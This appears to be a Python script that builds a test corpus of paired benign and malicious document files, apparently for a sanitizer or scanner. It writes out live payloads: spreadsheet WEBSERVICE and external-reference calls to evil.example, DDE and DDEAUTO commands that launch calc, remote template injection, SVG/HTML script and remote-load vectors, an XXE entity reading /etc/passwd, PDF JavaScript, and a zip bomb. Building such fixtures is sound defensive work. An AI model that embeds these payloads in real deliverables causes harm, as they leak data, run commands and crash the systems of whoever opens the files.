# Makes deliverables that call home or run, and harmless ones of the same kinds.
import base64, io, os, re, subprocess, zipfile
import docx, openpyxl, openpyxl.chart
import matplotlib.pyplot as plt

os.makedirs("out", exist_ok=True)


def rezip(path, to, change, extra=()):
    with zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    change(members)
    members.update(dict(extra))
    with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


def book(path, **cells):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"], ws["A2"], ws["A3"] = "amount", 1, 2
    for cell, value in cells.items():
        ws[cell] = value
    wb.save(path)


# harmless
wb = openpyxl.Workbook()
ws = wb.active
for row in [["region", "amount"], ["north", 30], ["south", 12.5]]:
    ws.append(row)
ws["B4"] = "=SUM(B2:B3)"
ws["C1"] = '=HYPERLINK("https://example.com","site")'
ws["A6"].hyperlink = "https://example.com/report"
chart = openpyxl.chart.BarChart()
chart.add_data(openpyxl.chart.Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
ws.add_chart(chart, "E2")
wb.save("out/good.xlsx")
plt.plot([1, 2, 3]); plt.title("Title"); plt.savefig("out/good.svg"); plt.savefig("out/good.pdf"); plt.savefig("out/good.png")
open("text.md", "w").write("# Report\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com) ![local](good.png)\n")
for to in ("good.docx", "good.pptx", "good.odt"):
    subprocess.run(["pandoc", "text.md", "-o", f"out/{to}"], check=True)
open("plain.md", "w").write("# Report\n\n[link](https://example.com)\n")
subprocess.run(["pandoc", "-s", "--metadata", "title=x", "plain.md", "-o", "out/good.html"], check=True)
open("out/good.md", "w").write(open("text.md").read())
open("out/good.csv", "w").write("a,b\n1,2\n")
with zipfile.ZipFile("out/good.zip", "w") as z:
    z.writestr("a.csv", "1,2")

# workbooks
book("out/webservice.xlsx", B1='=WEBSERVICE("http://evil.example/"&A2)', B2="=SUM(A2:A3)")
book("out/image.xlsx", B1='=_xlfn.IMAGE("http://evil.example/x.png")')
book("out/dde.xlsx", B1="=cmd|'/c calc'!A0")
book("out/otherbook.xlsx", B1="='http://evil.example/[x.xlsx]S'!A1")
book("plain.xlsx")
rezip("plain.xlsx", "out/externallink.xlsx", lambda m: None, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}.items())
rezip("plain.xlsx", "out/connection.xlsx", lambda m: None, {"xl/connections.xml": b"<connections/>"}.items())
rezip("plain.xlsx", "out/macro.xlsx", lambda m: None, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}.items())
rezip("plain.xlsx", "out/renamed.xlsm", lambda m: None)
book("name.xlsx")
wb = openpyxl.load_workbook("name.xlsx")
wb.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName("evil", attr_text='WEBSERVICE("http://evil.example")')
wb.save("out/definedname.xlsx")

# documents
docx.Document().save("plain.docx")


def template(m):
    m["word/settings.xml"] = m["word/settings.xml"].replace(b"</w:settings>", b'<w:attachedTemplate r:id="rId99" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>')


RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
rezip("plain.docx", "out/template.docx", template, {"word/_rels/settings.xml.rels": (RELS % "attachedTemplate").encode()}.items())
rezip("plain.docx", "out/remoteimage.docx", lambda m: None, {"word/_rels/footer9.xml.rels": (RELS % "image").encode()}.items())
rezip("plain.docx", "out/ole.docx", lambda m: None, {"word/embeddings/oleObject1.bin": b"x"}.items())
rezip("plain.docx", "out/field.docx", lambda m: m.update({"word/document.xml": m["word/document.xml"].replace(b"<w:body>", b'<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')}))

# pictures and pages
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">%s<text>kept</text></svg>'
for name, body in {
    "script": "<script>fetch('http://evil.example')</script>", "remote": '<image href="http://evil.example/x.png"/>',
    "onload": '<rect onload="alert(1)"/>', "style": "<style>@import url(http://evil.example/x.css);</style>",
    "foreign": "<foreignObject><iframe src='http://evil.example'/></foreignObject>", "use": '<use xlink:href="http://evil.example/x.svg#a"/>',
    "escape": "<style>a{fill:u\\72l(http://evil.example/x)}</style>", "jslink": '<a href="java&#x09;script:alert(1)"><text>x</text></a>',
}.items():
    open(f"out/{name}.svg", "w").write(SVG % body)
open("out/entity.svg", "w").write('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG % "&x;")
PAGE = "<!doctype html><html><head>%s</head><body>%s<p>kept</p></body></html>"
for name, (head, body) in {
    "script": ("<script src=http://evil.example/x.js></script>", ""), "inline": ("", "<script>document.location='http://evil.example'</script>"),
    "img": ("", "<IMG SRC=//evil.example/x.png>"), "refresh": ('<meta http-equiv=refresh content="0;url=http://evil.example">', ""),
    "link": ('<link rel=stylesheet href="https://evil.example/x.css">', ""), "base": ("<base href=http://evil.example>", ""),
    "css": ("<style>p{background:url( 'http://evil.example/x' )}</style>", ""), "form": ("", "<form action=http://evil.example><input></form>"),
    "handler": ("", "<p onclick=alert(1)>x</p>"), "srcset": ("", '<img srcset="https://evil.example/x 2x">'),
    "inlinestyle": ("", '<p style="background:url(//evil.example/x)">x</p>'), "object": ("", "<object data=http://evil.example></object>"),
}.items():
    open(f"out/{name}.html", "w").write(PAGE % (head, body))
open("out/disguised.txt", "w").write(PAGE % ("<script>1</script>", ""))
open("out/remote.md", "w").write("# x\n![p](https://evil.example/p.png) <img src=https://evil.example/y> kept\n")

# the rest
open("out/script.pdf", "wb").write(b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n")
open("out/hexed.pdf", "wb").write(b"%PDF-1.4\n1 0 obj<</OpenAction<</S/J#61vaScript>>>>endobj\n")
open("out/old.xls", "wb").write(b"\xd0\xcf\x11\xe0" + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le"))
open("out/page.hta", "w").write("<script>1</script>")
open("out/query.iqy", "w").write("WEB\n1\nhttp://evil.example\n")
open("out/tool.bin", "wb").write(b"\x7fELF" + b"\0" * 60)
with zipfile.ZipFile("out/nested.zip", "w") as z:
    z.write("out/webservice.xlsx", "inner.xlsx")
open("out/broken.xlsx", "wb").write(b"PK\x03\x04" + b"\0" * 100)
with zipfile.ZipFile("out/bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", b"\0" * (70 << 20))
print(len(os.listdir("out")), "files")
